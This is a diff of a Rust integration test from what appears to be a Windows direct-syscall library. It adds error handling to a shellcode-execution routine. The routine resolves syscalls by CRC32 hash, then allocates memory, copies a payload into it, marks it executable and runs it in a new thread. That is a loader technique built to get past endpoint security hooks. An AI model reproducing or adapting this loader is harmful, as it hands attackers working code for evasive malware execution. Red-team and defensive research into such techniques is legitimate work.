@@ -46,7 +46,7 @@ mod integration_tests {
             let h_thread: HANDLE = HANDLE::default();
 
             // allocating memory
-            prepare_syscall(NT_ALLOCATE_VIRTUAL_MEMORY_CRC32);
+            prepare_syscall(NT_ALLOCATE_VIRTUAL_MEMORY_CRC32).expect("[!] prepare_syscall Failed");
             let status: usize = run_direct_syscall(h_process, &mut p_address, 0, &mut s_payload, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
             assert_eq!(status, 0x00,"[!] NtAllocateVirtualMemory Failed With Error: {:x}", status);
             assert!(!p_address.is_null(), "[!] NtAllocateVirtualMemory Returned Null Pointer");
@@ -56,17 +56,17 @@ mod integration_tests {
             ptr::copy_nonoverlapping(PAYLOAD.as_ptr(), p_address as _, s_payload);
 
             // changing memory protection
-            prepare_syscall(NT_PROTECT_VIRTUAL_MEMORY_CRC32);
+            prepare_syscall(NT_PROTECT_VIRTUAL_MEMORY_CRC32).expect("[!] prepare_syscall Failed");
             let status: usize = run_direct_syscall(h_process, &mut p_address, &mut s_payload, PAGE_EXECUTE_READ, &old_protection);
             assert_eq!(status, 0x00,"[!] NtProtectVirtualMemory Failed With Error: {:x}", status);
 
-            prepare_syscall(NT_CREATE_THREAD_EX_CRC32);
+            prepare_syscall(NT_CREATE_THREAD_EX_CRC32).expect("[!] prepare_syscall Failed");
             let status: usize = run_direct_syscall(&h_thread, THREAD_ALL_ACCESS, NULL64, h_process, p_address, NULL64, false as i32, NULL64, NULL64, NULL64, NULL64);
             assert_eq!(status, 0x00,"[!] NtCreateThreadEx Failed With Error: {:x}", status);
 
             println!("[+] Thread {} Created Of Entry: {:?} \n", GetThreadId(h_thread), p_address);
 
-            prepare_syscall(NT_WAIT_FOR_SINGLE_OBJECT_CRC32);
+            prepare_syscall(NT_WAIT_FOR_SINGLE_OBJECT_CRC32).expect("[!] prepare_syscall Failed");
             let status: usize = run_direct_syscall(h_thread, FALSE, NULL64);
             assert_eq!(status, 0x00,"[!] NtWaitForSingleObject Failed With Error: {:x}", status);
         }